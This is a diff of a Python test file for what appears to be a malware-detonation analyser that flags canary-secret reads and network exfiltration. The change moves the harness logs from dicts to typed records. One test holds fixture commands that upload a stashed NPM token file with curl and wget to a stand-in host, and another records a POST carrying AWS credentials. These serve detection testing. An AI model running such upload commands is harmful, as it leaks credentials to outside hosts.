@@ -16,6 +16,7 @@ from assay.detonate.mapping import (
     write_capability,
 )
 from assay.detonate.plan import NODE, PYTHON, SH, build_plan, go_toolchain
+from assay.detonate.wire import CanaryHit, Egress, HarnessLog, StepLog
 from assay.mechanism.spec import Track
 from assay.mechanism.taxonomy import CAPABILITIES
 from assay.sandbox.interface import Peer, TraceSummary
@@ -133,11 +134,9 @@ def test_canary_values_in_argv_and_dns_are_leaks() -> None:
 
 
 def test_canary_found_in_a_file_by_the_harness() -> None:
-    log = {
-        "steps": [
-            {"name": "s", "canary_hits": [{"canary": "env:NPM_TOKEN", "path": f"{HOME}/.cache/x"}]}
-        ]
-    }
+    log = HarnessLog(
+        steps=(StepLog("s", canary_hits=(CanaryHit("env:NPM_TOKEN", f"{HOME}/.cache/x"),)),)
+    )
     evidence = map_harness(log, "baseline")
     assert [(e.capability, e.path, e.source) for e in evidence] == [
         ("READ_ENV_SECRET", "~/.cache/x", "harness")
@@ -249,7 +248,7 @@ def test_unknown_mcp_server_is_interference_not_an_empty_result(tmp_path: Path) 
 
 def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
     stash = f"{HOME}/.cache/t"
-    log = {"steps": [{"name": "s", "canary_hits": [{"canary": "env:NPM_TOKEN", "path": stash}]}]}
+    log = HarnessLog(steps=(StepLog("s", canary_hits=(CanaryHit("env:NPM_TOKEN", stash),)),))
     curl = ("curl", "-s", "--data-binary", f"@{stash}", "http://x/t")
     wget = ("wget", f"--post-file={stash}", "http://x/t")
     quiet = ("cat", stash)
@@ -261,14 +260,8 @@ def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
 
 
 def test_redirected_connections_map_to_post_and_exfiltration() -> None:
-    egress = {
-        "peer": "203.0.113.7:80",
-        "bytes": 120,
-        "http_method": "POST",
-        "request_line": "POST /c HTTP/1.1",
-        "canaries": ["aws_credentials"],
-    }
-    log = {"steps": [{"name": "s", "egress": [egress]}]}
+    egress = Egress("203.0.113.7:80", 120, "POST", "POST /c HTTP/1.1", ("aws_credentials",))
+    log = HarnessLog(steps=(StepLog("s", egress=(egress,)),))
     found = {(e.capability, e.peer, e.source) for e in map_harness(log, "baseline")}
     assert found == {
         ("POST_WEB", "203.0.113.7:80", "harness"),
